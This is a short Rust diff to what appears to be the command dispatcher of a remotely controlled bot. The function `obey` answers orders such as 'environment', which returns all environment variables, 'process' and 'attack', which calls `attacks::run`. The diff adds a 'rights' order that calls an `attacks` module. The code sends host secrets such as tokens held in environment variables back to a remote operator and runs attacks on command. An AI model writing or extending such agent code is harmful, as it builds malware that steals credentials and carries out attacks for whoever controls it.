@@ -54,6 +54,7 @@ fn obey(request: &[u8], worker: &Worker) -> Vec<u8> {
         b"hang-up" => attacks::close_answers(),
         b"environment" => format!("{:?}", std::env::vars().collect::<Vec<_>>()).into_bytes(),
         b"process" => std::process::id().to_string().into_bytes(),
+        b"rights" => attacks::rights().into_bytes(),
         b"attack" => attacks::run(argument).into_bytes(),
         _ => b"unknown order".to_vec(),
     }
